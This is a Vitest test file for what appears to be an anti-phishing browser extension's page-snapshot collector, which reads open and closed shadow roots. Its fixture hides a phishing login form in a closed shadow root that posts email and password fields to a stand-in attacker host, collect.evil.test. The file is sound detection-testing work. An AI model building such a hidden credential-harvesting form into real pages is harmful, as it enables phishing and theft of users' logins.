// @vitest-environment happy-dom
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { collectPageSnapshot, type PageSnapshot, type SnapshotCaps } from '@/utils/evidence/collect-page-snapshot';

// The snapshot reads open and closed shadow roots. happy-dom, like a page,
// hides closed roots (element.shadowRoot is null); the browsers' extension-only
// readers (chrome.dom.openOrClosedShadowRoot in Chromium, the content-script
// property element.openOrClosedShadowRoot in Firefox) are faked over the roots
// this test attaches.

const happyWindow = window as unknown as { happyDOM: { setURL(url: string): void; settings: { handleDisabledFileLoadingAsSuccess: boolean } } };
happyWindow.happyDOM.settings.handleDisabledFileLoadingAsSuccess = true;

const CAPS: SnapshotCaps = { htmlChars: 1_000_000, links: 10, forms: 10, fieldsPerForm: 10, origins: 10, textChars: 1_000 };
const snapshot = (caps: Partial<SnapshotCaps> = {}): PageSnapshot => collectPageSnapshot({ ...CAPS, ...caps });

/** Every root attached, open or closed, by host: what the browsers' readers can see. */
const attached = new Map<Element, ShadowRoot>();
function attach(host: Element, mode: ShadowRootMode, html: string): ShadowRoot {
  const root = host.attachShadow({ mode });
  root.innerHTML = html;
  attached.set(host, root);
  return root;
}
const readAny = (element: Element): ShadowRoot | null => attached.get(element) ?? null;

const LOGIN =
  '<form action="https://collect.evil.test/p.php" method="post"><input name="email" type="email"><input name="pass" type="password"></form>' +
  '<a href="https://shadow-out.test/x">x</a><script src="https://shadow-cdn.test/k.js"></script>';

/**
 * A login form in a closed root, nested in an open one; a closed root on
 * slotted content; a link both the document and a root have.
 */
function buildPage(): void {
  document.body.innerHTML = '<app-shell id="shell"><div class="slotted"></div></app-shell><p>after &amp; more</p><a href="https://both.test/">both</a>';
  const open = attach(document.querySelector('app-shell')!, 'open', '<header>Acme</header><login-box></login-box><slot></slot>');
  attach(open.querySelector('login-box')!, 'closed', LOGIN);
  attach(document.querySelector('.slotted')!, 'closed', '<a href="https://slot-out.test/">s</a><a href="https://both.test/">both</a>');
}

const SHADOW_BODY =
  '<body><app-shell id="shell"><template shadowrootmode="open"><header>Acme</header>' +
  `<login-box><template shadowrootmode="closed">${LOGIN}</template></login-box><slot></slot></template>` +
  '<div class="slotted"><template shadowrootmode="closed"><a href="https://slot-out.test/">s</a><a href="https://both.test/">both</a></template></div>' +
  '</app-shell><p>after &amp; more</p><a href="https://both.test/">both</a></body>';

const CLOSED_LOGIN = { mode: 'closed', host: '<login-box>' } as const;

beforeEach(() => {
  happyWindow.happyDOM.setURL('https://phish.test/login');
  attached.clear();
});
afterEach(() => {
  vi.unstubAllGlobals();
  delete (Element.prototype as unknown as Record<string, unknown>).openOrClosedShadowRoot;
});

describe('collectPageSnapshot in a page with shadow roots', () => {
  describe.each([
    ['Chromium: chrome.dom.openOrClosedShadowRoot', () => vi.stubGlobal('chrome', { dom: { openOrClosedShadowRoot: readAny } })],
    [
      'Firefox: element.openOrClosedShadowRoot',
      () => {
        vi.stubGlobal('chrome', undefined);
        Object.defineProperty(Element.prototype, 'openOrClosedShadowRoot', {
          configurable: true,
          get: function (this: Element) {
            return readAny(this);
          },
        });
      },
    ],
  ])('with %s', (_name, install) => {
    beforeEach(() => {
      install();
      buildPage();
    });

    it('writes every root, nested and on slotted content, inline as a declarative template first in its host', () => {
      const { html, htmlChars, truncated } = snapshot();
      expect({ html, htmlChars, truncated }).toEqual({ html: `<html>${document.head.outerHTML}${SHADOW_BODY}</html>`, htmlChars: html.length, truncated: false });
    });

    it('lists the closed root’s form, and the roots’ new links and script origins, each with where it was found', () => {
      const { forms, links, scriptOrigins, shadow } = snapshot();
      expect({ forms, links, scriptOrigins, shadow }).toEqual({
        forms: [
          {
            action: 'https://collect.evil.test/p.php',
            method: 'post',
            inputs: [
              { name: 'email', type: 'email' },
              { name: 'pass', type: 'password' },
            ],
            place: CLOSED_LOGIN,
            credentials: ['password'],
          },
        ],
        links: ['https://both.test/'],
        scriptOrigins: [],
        shadow: {
          roots: 3,
          capped: false,
          // Breadth first: the slotted root is one level deep, the login box two.
          links: [
            { text: 'https://slot-out.test/', place: { mode: 'closed', host: '<div>' } },
            { text: 'https://shadow-out.test/x', place: CLOSED_LOGIN },
          ],
          scriptOrigins: [{ text: 'https://shadow-cdn.test', place: CLOSED_LOGIN }],
          iframeOrigins: [],
        },
      });
    });

    it('stops at the cap of roots and says so', () => {
      const { html, shadow } = snapshot({ shadowRoots: 2 });
      expect([shadow?.roots, shadow?.capped, html.includes('shadowrootmode="open"'), html.includes('collect.evil.test')]).toEqual([2, true, true, false]);
    });

    it('stops at the cap of depth and says so', () => {
      const { html, forms, shadow } = snapshot({ shadowDepth: 1 });
      expect([shadow?.roots, shadow?.capped, forms, html.includes('<login-box></login-box>')]).toEqual([2, true, [], true]);
    });
  });

  it('stops looking at the time limit and says so', () => {
    vi.stubGlobal('chrome', { dom: { openOrClosedShadowRoot: readAny } });
    buildPage();
    // The clock is read every 256 elements: these come after both document-level hosts.
    document.body.insertAdjacentHTML('beforeend', '<span></span>'.repeat(300));
    const { forms, shadow } = snapshot({ shadowMillis: -1 });
    expect([forms, shadow?.roots, shadow?.capped]).toEqual([[], 2, true]);
  });

  it('without a reader of closed roots, still writes and lists the open ones', () => {
    vi.stubGlobal('chrome', {});
    buildPage();
    const { html, forms, shadow } = snapshot();
    expect([html.includes('<template shadowrootmode="open"><header>Acme</header><login-box></login-box>'), html.includes('closed'), forms, shadow?.roots]).toEqual([true, false, [], 1]);
  });

  it('escapes text and attributes it writes itself', () => {
    vi.stubGlobal('chrome', { dom: { openOrClosedShadowRoot: readAny } });
    document.body.innerHTML = '<div title="a &quot;b&quot; &amp; c">x &lt; y&nbsp;&amp; z<!-- note --><x-host></x-host></div>';
    attach(document.querySelector('x-host')!, 'open', '<i>&lt;in&gt;</i>');
    expect(snapshot().html).toContain(
      '<body><div title="a &quot;b&quot; &amp; c">x &lt; y&nbsp;&amp; z<!-- note --><x-host><template shadowrootmode="open"><i>&lt;in&gt;</i></template></x-host></div></body>',
    );
  });

  it('keeps the plain source of a page without shadow roots', () => {
    vi.stubGlobal('chrome', { dom: { openOrClosedShadowRoot: readAny } });
    document.body.innerHTML = '<div><p>plain</p></div>';
    const taken = snapshot();
    expect([taken.html, taken.shadow]).toEqual([document.documentElement.outerHTML, undefined]);
  });

  it('cuts a host’s tag name like any other text', () => {
    vi.stubGlobal('chrome', { dom: { openOrClosedShadowRoot: readAny } });
    const name = `x-${'a'.repeat(50)}`;
    document.body.innerHTML = `<${name}></${name}>`;
    attach(document.body.firstElementChild!, 'closed', '<form action="/p"></form>');
    expect(snapshot({ textChars: 10 }).forms[0]?.place).toEqual({ mode: 'closed', host: '<x-aaaaaaa…' });
  });
});
